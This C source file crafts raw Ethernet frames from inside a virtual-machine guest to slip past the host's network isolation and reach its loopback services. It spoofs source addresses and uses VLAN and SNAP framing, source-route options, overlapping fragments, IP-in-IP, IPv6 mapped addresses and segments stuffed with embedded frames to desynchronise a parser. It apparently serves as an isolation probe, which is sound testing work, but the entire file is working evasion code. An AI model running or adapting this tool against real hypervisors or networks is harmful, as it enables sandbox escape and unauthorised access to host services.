/* Sends what no guest's kernel would out of its network card, as root in a guest can: frames for the host's loopback in
 * every disguise, then many frames whose payload is made of such frames. Usage: frames PORT HOST OUTSIDE ROUNDS */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

typedef unsigned char byte;
static int card, sent, mtu;
static byte mac[6];
static in_addr_t guest, host, outside;
static int port;

static void die(const char *what) { perror(what); exit(1); }

static unsigned sum(const byte *p, int n, unsigned s) {
    for (; n > 1; n -= 2, p += 2) s += p[0] << 8 | p[1];
    if (n) s += p[0] << 8;
    while (s >> 16) s = (s & 0xffff) + (s >> 16);
    return s;
}
static void put16(byte *p, unsigned v) { p[0] = v >> 8; p[1] = v; }

static void out(const byte *frame, int n) {
    if (send(card, frame, n, 0) != n) die("sending a frame");
    sent++;
}

/* A TCP SYN with two bytes of data, or a datagram, for the port. Returns its length. */
static int segment(byte *p, int tcp, int from, in_addr_t source, in_addr_t destination, const char *data) {
    int n = tcp ? 22 : 8 + (int)strlen(data);
    memset(p, 0, n);
    put16(p, from);
    put16(p + 2, port);
    if (tcp) {
        p[7] = 1; p[12] = 5 << 4; p[13] = 2; put16(p + 14, 65535);
    } else {
        put16(p + 4, n);
        memcpy(p + 8, data, n - 8);
    }
    byte pseudo[12] = {0};
    memcpy(pseudo, &source, 4);
    memcpy(pseudo + 4, &destination, 4);
    pseudo[9] = tcp ? 6 : 17;
    put16(pseudo + 10, n);
    put16(p + (tcp ? 16 : 6), ~sum(p, n, sum(pseudo, 12, 0)));
    return n;
}

static int ipv4(byte *p, int proto, in_addr_t source, in_addr_t destination, const byte *options, int m, const byte *data, int n) {
    memset(p, 0, 20);
    p[0] = 0x45 + m / 4; put16(p + 2, 20 + m + n); p[6] = 0x40; p[8] = 64; p[9] = proto;
    memcpy(p + 12, &source, 4);
    memcpy(p + 16, &destination, 4);
    memcpy(p + 20, options, m);
    memmove(p + 20 + m, data, n);
    put16(p + 10, ~sum(p, 20 + m, 0));
    return 20 + m + n;
}

static int ether(byte *p, const char *tags, int ntags, int kind, const byte *packet, int n) {
    memset(p, 0xff, 6);
    memcpy(p + 6, mac, 6);
    memcpy(p + 12, tags, ntags);
    put16(p + 12 + ntags, kind);
    memmove(p + 14 + ntags, packet, n);
    return 14 + ntags + n;
}

static void emit(const char *tags, int ntags, int kind, const byte *packet, int n) {
    byte frame[4096];
    out(frame, ether(frame, tags, ntags, kind, packet, n));
}

/* Every disguise of one segment for one address. */
static void disguises(in_addr_t to, int tcp) {
    byte seg[64], packet[256], inner[256], six[256], options[12] = {1, 1, 1, 1};
    int n, m, k, proto = tcp ? 6 : 17;
    in_addr_t sources[] = {guest, to, htonl(INADDR_LOOPBACK), 0, host};
    for (k = 0; k < 5; k++) {
        n = segment(seg, tcp, 4000 + k, sources[k], to, "secret?");
        m = ipv4(packet, proto, sources[k], to, NULL, 0, seg, n);
        emit("", 0, 0x0800, packet, m);
    }
    n = segment(seg, tcp, 4010, guest, to, "secret?");
    m = ipv4(packet, proto, guest, to, NULL, 0, seg, n);
    emit("\x81\0\0\7", 4, 0x0800, packet, m);
    emit("\x88\xa8\0\7\x81\0\0\7", 8, 0x0800, packet, m);
    emit("", 0, 0x86dd, packet, m);
    emit("", 0, 0x0806, packet, m);
    emit("", 0, m, packet, m);                                  /* 802.3 */
    emit("\0\x30\xaa\xaa\3\0\0\0", 8, 0x0800, packet, m);       /* 802.3 with SNAP */
    emit("", 0, 0x0800, packet, m + 6);                         /* padded */
    emit("", 0, 0x0800, packet, m - 1);                         /* truncated */
    packet[0] = 0x65;
    emit("", 0, 0x0800, packet, m);
    m = ipv4(packet, proto, guest, to, options, 4, seg, n);     /* options */
    emit("", 0, 0x0800, packet, m);
    for (k = 0; k < 4; k++) {                                   /* loose and strict source routes, by it and to it */
        options[0] = k & 1 ? 131 : 137; options[1] = 7; options[2] = 4; options[7] = 0;
        memcpy(options + 3, k & 2 ? &to : &outside, 4);
        m = ipv4(packet, proto, guest, k & 2 ? outside : to, options, 8, seg, n);
        emit("", 0, 0x0800, packet, m);
    }
    for (k = 0; k < 2; k++) {                                   /* fragments: a tiny first one, the rest, both ways round */
        m = ipv4(packet, proto, guest, k ? outside : to, NULL, 0, seg, 8);
        packet[6] = 0x20; put16(packet + 10, 0); put16(packet + 10, ~sum(packet, 20, 0));
        emit("", 0, 0x0800, packet, m);
        m = ipv4(packet, proto, guest, k ? to : outside, NULL, 0, seg + 8 - 8 * (n < 9), n < 9 ? n : n - 8);
        packet[6] = 0; packet[7] = 1; put16(packet + 10, 0); put16(packet + 10, ~sum(packet, 20, 0));
        emit("", 0, 0x0800, packet, m);
    }
    k = ipv4(inner, proto, guest, to, NULL, 0, seg, n);         /* IP in IP, to both ends */
    m = ipv4(packet, 4, guest, host, NULL, 0, inner, k);
    emit("", 0, 0x0800, packet, m);
    m = ipv4(packet, 4, guest, to, NULL, 0, inner, k);
    emit("", 0, 0x0800, packet, m);
    /* IPv6: ::1, ::, the address mapped and as it was embedded, link-local; bare and in IPv4 */
    byte sixes[5][16] = {{[15] = 1}, {0}, {[10] = 0xff, 0xff}, {0}, {0xfe, 0x80, [15] = 1}};
    memcpy(sixes[2] + 12, &to, 4);
    memcpy(sixes[3] + 12, &to, 4);
    for (k = 0; k < 5; k++) {
        memset(six, 0, 40);
        six[0] = 0x60; six[5] = n; six[6] = proto; six[7] = 64;
        six[8] = 0xfe; six[9] = 0x80; six[23] = 2;
        memcpy(six + 24, sixes[k], 16);
        memcpy(six + 40, seg, n);
        emit("", 0, 0x86dd, six, 40 + n);
        m = ipv4(packet, 41, guest, host, NULL, 0, six, 40 + n);
        emit("", 0, 0x0800, packet, m);
    }
}

/* A segment of no connection, to the outside, whose payload holds frames with their lengths among zeros, which are lengths of
 * nothing: whoever loses his place in the stream finds it there. All lengths are multiples of four; `shift` gives the four
 * places. */
static int stuffed(byte *frame, int size, int shift) {
    byte evil[160], seg[64], packet[128];
    int at, n, m = 0, k;
    in_addr_t to = htonl(INADDR_LOOPBACK);
    memset(evil, 0, sizeof evil);
    for (k = 0; k < 2; k++) {
        n = segment(seg, k, 4100 + k, guest, to, "secret");
        n = ipv4(packet, k ? 6 : 17, guest, to, NULL, 0, seg, n);
        n = ether(evil + m + 4, "", 0, 0x0800, packet, n);
        put16(evil + m + 2, n);
        m += 4 + n;
        if (m % 4) die("a length that is no multiple of four");
    }
    memset(frame, 0, size);
    for (at = 54 + shift + 200; at + m + 200 < size; at += m + 200) memcpy(frame + at, evil, m);
    /* In place, so that nothing of the payload is copied. */
    ipv4(frame + 14, 6, guest, outside, NULL, 0, frame + 34, size - 34);
    ether(frame, "", 0, 0x0800, frame + 14, size - 14);
    put16(frame + 34, 4200);
    put16(frame + 36, 9);
    frame[46] = 5 << 4; frame[47] = 0x10;
    return size;
}

int main(int argc, char **argv) {
    static byte big[65536];
    struct ifreq request = {.ifr_name = "eth0"};
    in_addr_t targets[] = {htonl(0x7f000001), htonl(0x7f000035), htonl(0x7f010203), 0, htonl(1)};
    byte seg[64], packet[128];
    int k, tcp, n, rounds;
    if (argc != 5) die("usage");
    port = atoi(argv[1]);
    host = inet_addr(argv[2]);
    outside = inet_addr(argv[3]);
    rounds = atoi(argv[4]);
    card = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (card < 0) die("a packet socket");
    if (ioctl(card, SIOCGIFADDR, &request)) die("the guest's address");
    guest = ((struct sockaddr_in *)&request.ifr_addr)->sin_addr.s_addr;
    if (ioctl(card, SIOCGIFHWADDR, &request)) die("the card's address");
    memcpy(mac, request.ifr_hwaddr.sa_data, 6);
    if (ioctl(card, SIOCGIFMTU, &request)) die("the largest packet");
    mtu = request.ifr_mtu;
    request.ifr_mtu = 65535;
    if (ioctl(card, SIOCSIFMTU, &request)) die("a larger packet");
    struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
    if (ioctl(card, SIOCGIFINDEX, &request)) die("the card's number");
    address.sll_ifindex = request.ifr_ifindex;
    if (bind(card, (struct sockaddr *)&address, sizeof address)) die("binding to the card");

    for (k = 0; k < 5; k++)
        for (tcp = 0; tcp < 2; tcp++) disguises(targets[k], tcp);
    for (n = 0; n < rounds; n++) {
        for (k = rand() % 200; k > 0; k--) out(big, stuffed(big, 60 + rand() % 40, 0));
        for (k = 0; k < 4; k++) {
            out(big, stuffed(big, (n % 2 ? 65532 : mtu + 14) / 4 * 4 - 4 * (rand() % 100), k));
            if (rand() % 2) out(big, stuffed(big, 1000 + rand() % 3000 * 4, k));
        }
    }
    /* What may pass comes last: when it has arrived, all before it has been dealt with. */
    for (tcp = 1; tcp >= 0; tcp--) {
        n = segment(seg, tcp, 4300, guest, host, "control");
        n = ipv4(packet, tcp ? 6 : 17, guest, host, NULL, 0, seg, n);
        emit("", 0, 0x0800, packet, n);
    }
    printf("%d frames\n", sent);
    return 0;
}
